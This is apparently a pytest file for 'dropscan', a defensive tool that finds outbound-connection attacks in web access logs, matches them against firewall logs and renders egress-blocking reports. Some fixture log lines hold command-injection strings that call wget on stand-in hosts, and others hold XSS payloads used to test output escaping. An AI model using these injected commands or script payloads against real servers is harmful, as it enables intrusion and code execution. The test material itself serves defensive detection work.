"""The egress report end to end: a vhost_combined log set (rotated, partly gzip'd) whose attacks
hit some vhosts and not others, firewall-log confirmation, every output format, the API frames."""

from __future__ import annotations

import gzip
import json
from html.parser import HTMLParser

import pandas as pd

import dropscan
from conftest import SAMPLE_LOGS, dropscan_main, vhost_line
from dropscan.cli import app
from dropscan.outputs.render import html_report, markdown, table
from dropscan.report.egress_report import ReportBuilder, build_report


def _dest(host, port, scheme, ip, findings, answered, first, last=None, confirmed=False, **extra):
    d = {"host": host, "port": port, "scheme": scheme, "ip_literal": ip, "findings": findings, "confirmed": confirmed,
         "answered_2xx_3xx": answered, "first_seen": first, "last_seen": last or first}  # fmt: skip
    return {**d, **extra}


EXPECTED_HOSTS = [
    {
        "host": "shop.example.com",
        "needs_egress_blocking": True,
        "findings": 4,
        "findings_with_destinations": 4,
        "answered_2xx_3xx": 2,
        "answered_4xx_5xx": 2,
        "first_seen": "2026-11-26T08:00:00+00:00",
        "last_seen": "2026-11-27T07:05:00+00:00",
        "clients": [
            {"ip": "203.0.113.10", "findings": 2},
            {"ip": "203.0.113.13", "findings": 1},
            {"ip": "203.0.113.14", "findings": 1},
        ],
        "categories": {"dropper": 3, "reverse-shell": 1},
        "destinations": [
            _dest("198.51.100.20", 8080, "http", True, 2, 1, "2026-11-26T08:00:00+00:00", "2026-11-26T09:00:00+00:00"),
            _dest("malware.example", 443, "https", False, 1, 1, "2026-11-27T07:00:00+00:00"),
            _dest("203.0.113.77", 9001, "tcp", True, 1, 0, "2026-11-27T07:05:00+00:00"),
        ],
    },
    {
        "host": "api.example.com",
        "needs_egress_blocking": True,
        "findings": 1,
        "findings_with_destinations": 1,
        "answered_2xx_3xx": 0,
        "answered_4xx_5xx": 1,
        "first_seen": "2026-11-26T09:30:00+00:00",
        "last_seen": "2026-11-26T09:30:00+00:00",
        "clients": [{"ip": "203.0.113.11", "findings": 1}],
        "categories": {"jndi": 1},
        "destinations": [_dest("2001:db8::66", 1389, "ldap", True, 1, 0, "2026-11-26T09:30:00+00:00")],
    },
    {
        "host": "intranet.example.com",
        "needs_egress_blocking": True,
        "findings": 1,
        "findings_with_destinations": 1,
        "answered_2xx_3xx": 1,
        "answered_4xx_5xx": 0,
        "first_seen": "2026-11-27T07:10:00+00:00",
        "last_seen": "2026-11-27T07:10:00+00:00",
        "clients": [{"ip": "203.0.113.15", "findings": 1}],
        "categories": {"reverse-shell": 1},
        "destinations": [_dest("127.0.0.1", 4444, "tcp", True, 1, 1, "2026-11-27T07:10:00+00:00")],
    },
    {
        "host": "legacy.example.com",
        "needs_egress_blocking": False,
        "findings": 1,
        "findings_with_destinations": 0,
        "answered_2xx_3xx": 0,
        "answered_4xx_5xx": 1,
        "first_seen": "2026-11-26T10:00:00+00:00",
        "last_seen": "2026-11-26T10:00:00+00:00",
        "clients": [{"ip": "203.0.113.12", "findings": 1}],
        "categories": {"rce-probe": 1},
        "destinations": [],
    },
]
DEST_KEYS = ["host", "port", "scheme", "ip_literal", "findings", "confirmed", "answered_2xx_3xx", "first_seen",
             "last_seen"]  # fmt: skip


def _strip(hosts):
    """The report's hosts with only the keys EXPECTED_HOSTS pins down."""
    out = []
    for h in hosts:
        x = {k: h[k] for k in EXPECTED_HOSTS[0] if k != "destinations"}
        x["destinations"] = [{k: d[k] for k in DEST_KEYS} for d in h["destinations"]]
        out.append(x)
    return out


def test_flags_exactly_the_attacked_vhosts(vhost_logs):
    rep = dropscan.egress_report(vhost_logs).as_dict()
    assert _strip(rep["hosts"]) == EXPECTED_HOSTS
    assert rep["summary"] == {
        "hosts": 4,
        "needs_egress_blocking": ["shop.example.com", "api.example.com", "intranet.example.com"],
        "findings": 7,
        "destinations": 5,
        "ip_destinations": 4,
        "confirmed_destinations": 0,
        "via_resolver_destinations": 0,
    }
    assert rep["firewall"] is None
    assert [f["path"].rsplit("/", 1)[1] for f in rep["scan"]["files"]] == [
        "other_vhosts_access.log.2.gz",
        "other_vhosts_access.log.1",
        "other_vhosts_access.log",
    ]
    assert {f["format"] for f in rep["scan"]["files"]} == {"vhost_combined"}
    assert rep["days"] == [
        {"date": "2026-11-26", "category": "dropper", "findings": 2},
        {"date": "2026-11-26", "category": "jndi", "findings": 1},
        {"date": "2026-11-26", "category": "rce-probe", "findings": 1},
        {"date": "2026-11-27", "category": "dropper", "findings": 1},
        {"date": "2026-11-27", "category": "reverse-shell", "findings": 2},
    ]


FIREWALL = [
    # confirms shop's 198.51.100.20:8080 (classic syslog, 3 s after the first request)
    "Nov 26 08:00:03 web1 kernel: [86241.1] [DROPSCAN EGRESS] IN= OUT=eth0 SRC=192.0.2.10 DST=198.51.100.20 LEN=60 "
    "TOS=0x00 PREC=0x00 TTL=64 ID=1 DF PROTO=TCP SPT=34800 DPT=8080 WINDOW=64240 RES=0x00 SYN URGP=0 UID=33 GID=33 ",
    # confirms api's IPv6 destination (RFC 3339)
    "2026-11-26T09:30:02.250000+00:00 web1 kernel: [DROPSCAN EGRESS] IN= OUT=eth0 "
    "SRC=2001:0db8:0000:0000:0000:0000:0000:0010 DST=2001:0db8:0000:0000:0000:0000:0000:0066 LEN=80 TC=0 "
    "HOPLIMIT=64 FLOWLBL=1 PROTO=TCP SPT=50010 DPT=1389 WINDOW=64800 RES=0x00 SYN URGP=0 UID=33 GID=33",
    # noise: 203.0.113.77 before its request, on the wrong port, and inbound; a packet with another uid
    "Nov 27 07:04:59 web1 kernel: [UFW BLOCK] IN= OUT=eth0 SRC=192.0.2.10 DST=203.0.113.77 LEN=60 PROTO=TCP SPT=1 "
    "DPT=9001 UID=33 GID=33",
    "Nov 27 07:05:01 web1 kernel: [UFW BLOCK] IN= OUT=eth0 SRC=192.0.2.10 DST=203.0.113.77 LEN=60 PROTO=TCP SPT=1 "
    "DPT=9002 UID=33 GID=33",
    "Nov 27 07:05:02 web1 kernel: [UFW BLOCK] IN=eth0 OUT= MAC=00:00:00:00:00:00:00:00:00:00:00:00:08:00 "
    "SRC=203.0.113.77 DST=192.0.2.10 LEN=60 PROTO=TCP SPT=9001 DPT=80",
    "Nov 27 07:05:03 web1 kernel: [UFW BLOCK] IN= OUT=eth0 SRC=192.0.2.10 DST=203.0.113.77 LEN=60 PROTO=TCP SPT=1 "
    "DPT=9001 UID=0 GID=0",
    # noise: shop's dropper again, but after the 10-minute window of both of its requests
    "Nov 26 09:10:01 web1 kernel: IN= OUT=eth0 SRC=192.0.2.10 DST=198.51.100.20 LEN=60 PROTO=TCP SPT=1 DPT=8080 "
    "UID=33 GID=33",
    "Nov 26 08:00:04 web1 kernel: usb 1-1: new high-speed USB device number 2 using xhci_hcd",
]


def test_firewall_log_confirms_and_leads(vhost_logs, tmp_path):
    fw = tmp_path / "kern.log.1.gz"
    fw.write_bytes(gzip.compress(("\n".join(FIREWALL) + "\n").encode()))
    rep = dropscan.egress_report(vhost_logs, firewall_logs=[fw], user="33")
    d = rep.as_dict()
    confirmed = {(h["host"], x["host"]): x for h in d["hosts"] for x in h["destinations"] if x["confirmed"]}
    assert sorted(confirmed) == [("api.example.com", "2001:db8::66"), ("shop.example.com", "198.51.100.20")]
    assert confirmed[("shop.example.com", "198.51.100.20")]["first_confirmed"] == "2026-11-26T08:00:03+00:00"
    assert confirmed[("shop.example.com", "198.51.100.20")]["firewall_events"] == 1
    assert confirmed[("api.example.com", "2001:db8::66")]["first_confirmed"] == "2026-11-26T09:30:02.250000+00:00"
    assert [h["host"] for h in d["hosts"]] == [
        "shop.example.com",  # 1 confirmed, 4 findings with destinations
        "api.example.com",  # 1 confirmed
        "intranet.example.com",
        "legacy.example.com",
    ]
    assert d["hosts"][0]["destinations"][0]["host"] == "198.51.100.20"  # confirmed leads
    assert d["firewall"] == {
        "files": [str(fw)],
        "lines": 8,
        "events": 7,
        "outbound": 6,
        "other": 1,
        "unparsed": 0,
        "errors": [],
    }
    # without --user the UID=0 packet (right address, port and time) confirms 203.0.113.77: the uid
    # filter is what excluded it above
    loose = dropscan.egress_report(vhost_logs, firewall_logs=[fw]).as_dict()
    shop = next(h for h in loose["hosts"] if h["host"] == "shop.example.com")
    assert [(x["host"], x["confirmed"]) for x in shop["destinations"]] == [
        ("198.51.100.20", True),
        ("203.0.113.77", True),
        ("malware.example", False),
    ]


def test_year_boundary_end_to_end(tmp_path):
    log = tmp_path / "shop.example.com-access.log"
    log.write_bytes(
        b'203.0.113.5 - - [31/Dec/2026:23:59:30 +0000] "GET /x?c=;wget%20http://198.51.100.21/y HTTP/1.1" 200 1 '
        b'"-" "-"\n'
    )
    fw = tmp_path / "ufw.log"
    fw.write_text(
        "Jan  1 00:00:10 web1 kernel: [UFW BLOCK] IN= OUT=eth0 SRC=192.0.2.1 DST=198.51.100.21 LEN=60 PROTO=TCP "
        "SPT=1 DPT=80 \n"
    )
    h = dropscan.egress_report(log, firewall_logs=[fw]).as_dict()["hosts"]
    assert h[0]["host"] == "shop.example.com"
    assert h[0]["destinations"][0]["first_confirmed"] == "2027-01-01T00:00:10+00:00"


def test_builder_is_pure_and_counts_a_destination_once_per_finding(vhost_logs):
    findings = list(dropscan.scan(vhost_logs))
    twice = findings[1]
    twice.egress = twice.egress + twice.egress  # the same destination named twice in one request
    rep = ReportBuilder().add_all(findings).report()
    shop = rep.hosts[0]
    assert shop.dests[("198.51.100.20", 8080, "http", False)].findings == 2
    assert build_report([]).as_dict()["hosts"] == []


# --- human formats -----------------------------------------------------------------------------
class _Cells(HTMLParser):
    """Rows of every table in an HTML document, and the tags seen."""

    def __init__(self):
        super().__init__()
        self.tables: dict[str, list[list[str]]] = {}
        self.tags: list[str] = []
        self._table = None
        self._row: list[str] | None = None
        self._cell: list[str] | None = None
        self._n = 0

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        a = dict(attrs)
        if tag == "table":
            self._n += 1
            self._table = a.get("id") or f"table{self._n}"
            self.tables[self._table] = []
        elif tag == "tr":
            self._row = []
        elif tag in ("td", "th"):
            self._cell = []

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self._cell is not None:
            self._row.append("".join(self._cell))
            self._cell = None
        elif tag == "tr" and self._row is not None:
            self.tables[self._table].append(self._row)
            self._row = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell.append(data)


def test_html_report_rows_and_no_markup_from_logs(vhost_logs, tmp_path):
    evil = tmp_path / "evil"
    evil.mkdir()
    (evil / "access.log").write_bytes(
        vhost_line(
            "<script>alert(1)</script>.example",
            "/x?c=;wget%20http://198.51.100.30/a%3Cscript%3Ealert(2)%3C/script%3E",
            ua="<img src=x onerror=alert(3)>",
            client="203.0.113.66",
        )
    )
    rep = build_report(dropscan.scan([str(vhost_logs), str(evil / "access.log")]))
    doc = html_report(rep)
    assert "<script" not in doc.lower() and "onerror=alert" not in doc and "<img" not in doc
    assert "&lt;script&gt;alert(1)&lt;/script&gt;.example" in doc
    p = _Cells()
    p.feed(doc)
    assert "script" not in p.tags and "svg" in p.tags and "rect" in p.tags
    hosts = p.tables["hosts"]
    assert hosts[0][:3] == ["Host", "Needs egress blocking", "Findings"]
    assert [(r[0], r[1], r[2]) for r in hosts[1:]] == [
        ("shop.example.com", "yes", "4"),
        ("<script>alert(1)</script>.example", "yes", "1"),
        ("api.example.com", "yes", "1"),
        ("intranet.example.com", "yes", "1"),
        ("legacy.example.com", "no", "1"),
    ]
    dest_tables = [t for name, t in p.tables.items() if name not in ("hosts", "block")]
    assert [r[1] for r in dest_tables[0][1:]] == ["198.51.100.20", "malware.example", "203.0.113.77"]
    assert [r[8] for r in dest_tables[1][1:]] == ["http://198.51.100.30/a<script>alert(2"]  # the URL ends at "("
    defanged = _Cells()
    defanged.feed(html_report(rep, defanged=True))
    assert [r[1] for r in list(defanged.tables.values())[2][1:]] == ["198.51.100[.]20", "malware[.]example",
                                                                      "203.0.113[.]77"]  # fmt: skip


def test_markdown_and_table_escape_log_text(tmp_path):
    log = tmp_path / "access.log"
    log.write_bytes(
        vhost_line("a|b`c*d_<b>\x1b[31m.example", "/x?c=;wget%20http://198.51.100.30/a", client="203.0.113.66")
    )
    rep = build_report(dropscan.scan(log))
    md = markdown(rep)
    row = next(line for line in md.splitlines() if line.startswith("| a"))
    assert row.startswith(r"| a\|b\`c\*d\_\<b\>\\x1b\[31m.example | **yes** | 1 |")
    assert "\x1b" not in md and "<b>" not in md
    text = table(rep, defanged=True)
    assert "\x1b" not in text and "\\x1b[31m" in text
    assert "198.51.100[.]30" in text and "198.51.100.30" not in text


# --- CLI ---------------------------------------------------------------------------------------
def test_cli_report_json_exit_codes_and_summary(runner, vhost_logs, tmp_path):
    r = runner.invoke(app, ["report", str(vhost_logs), "--format", "json"], catch_exceptions=False)
    assert r.exit_code == 1
    assert _strip(json.loads(r.stdout)["hosts"]) == EXPECTED_HOSTS
    out = tmp_path / "report.html"
    r = runner.invoke(app, ["report", str(vhost_logs), "-o", str(out), "--defang"], catch_exceptions=False)
    assert r.exit_code == 1
    assert out.read_text().startswith("<!DOCTYPE html>")
    assert r.stdout.splitlines() == [
        "covered: 3 file(s) (3 with findings, 0 clean, 0 failed, 0 skipped), 11 lines (11 records, 0 rejected), "
        "2026-11-25T23:59:58+00:00 to 2026-11-27T07:11:00+00:00; formats: vhost_combined",
        "dropscan: 4 host(s) with findings, 7 finding(s); 3 need egress blocking: shop.example.com, "
        "api.example.com, intranet.example.com",
        "top destinations:",
        "  http://198.51.100[.]20:8080 (2)",  # most findings, then most answered 2xx/3xx
        "  tcp://127.0.0[.]1:4444 (1)",
        "  https://malware[.]example:443 (1)",
        "  ldap://[2001:db8:[:]66]:1389 (1)",
        "  tcp://203.0.113[.]77:9001 (1)",
        f"report written to {out}",
    ]
    md = tmp_path / "r.md"
    assert runner.invoke(app, ["report", str(vhost_logs), "-o", str(md)]).exit_code == 1
    assert md.read_text().startswith("# dropscan egress report\n")
    clean = tmp_path / "clean.log"
    clean.write_bytes(vhost_line("blog.example.com", "/"))
    r = runner.invoke(app, ["report", str(clean), "-f", "table"], catch_exceptions=False)
    assert (r.exit_code, r.stdout.splitlines()[-1]) == (0, "no findings")
    r = runner.invoke(app, ["report", str(vhost_logs), "-f", "json", "--firewall-log", str(tmp_path / "nope")])
    assert r.exit_code == 2 and "nope: cannot open" in r.stderr
    assert json.loads(r.stdout)["firewall"]["errors"]
    p = dropscan_main("report", str(vhost_logs), "--window", "ten minutes")
    assert p.returncode == 2 and "Traceback" not in p.stderr
    assert (
        p.stderr
        == "dropscan: error: cannot read duration 'ten minutes': use a number and a unit, like 30s, 10m, 2h or 1d\n"
    )


def test_cli_report_sample_logs_confirms_with_sample_kern_log(runner):
    r = runner.invoke(
        app,
        ["report", str(SAMPLE_LOGS), "-f", "json", "--firewall-log", str(SAMPLE_LOGS / "kern.log"), "--user", "33"],
        catch_exceptions=False,
    )
    assert r.exit_code == 1
    d = json.loads(r.stdout)
    confirmed = [(h["host"], x["host"], x["port"], x["first_confirmed"]) for h in d["hosts"] for x in h["destinations"]
                 if x["confirmed"]]  # fmt: skip
    assert confirmed == [("legacy.example.com", "203.0.113.91", 80, "2026-11-27T10:02:01+00:00")]
    assert d["hosts"][0]["host"] == "legacy.example.com"


# --- API frames --------------------------------------------------------------------------------
def test_report_frames_dtypes_and_rows(vhost_logs, tmp_path):
    hosts, dests = dropscan.report_frames(vhost_logs)
    assert list(hosts["host"]) == ["shop.example.com", "api.example.com", "intranet.example.com", "legacy.example.com"]
    assert hosts["needs_egress_blocking"].tolist() == [True, True, True, False]
    assert {c: str(t) for c, t in hosts.dtypes.items() if c != "host"} == {
        "needs_egress_blocking": "boolean",
        "findings": "Int64",
        "findings_with_destinations": "Int64",
        "answered_2xx_3xx": "Int64",
        "answered_4xx_5xx": "Int64",
        "first_seen": "datetime64[us, UTC]",
        "last_seen": "datetime64[us, UTC]",
        "clients": "Int64",
        "destinations": "Int64",
        "confirmed_destinations": "Int64",
    }
    assert hosts.loc[0, "first_seen"] == pd.Timestamp("2026-11-26T08:00:00Z")
    assert list(zip(dests["host"], dests["dest_host"], dests["port"], strict=True)) == [
        ("shop.example.com", "198.51.100.20", 8080),
        ("shop.example.com", "malware.example", 443),
        ("shop.example.com", "203.0.113.77", 9001),
        ("api.example.com", "2001:db8::66", 1389),
        ("intranet.example.com", "127.0.0.1", 4444),
    ]
    assert (str(dests["port"].dtype), str(dests["ip_literal"].dtype), str(dests["first_confirmed"].dtype)) == (
        "Int32",
        "boolean",
        "datetime64[us, UTC]",
    )
    (tmp_path / "access.log").write_text("")
    h0, d0 = dropscan.report_frames(tmp_path / "access.log")
    assert (len(h0), len(d0)) == (0, 0)
    assert h0.dtypes.equals(hosts.dtypes) and d0.dtypes.equals(dests.dtypes)
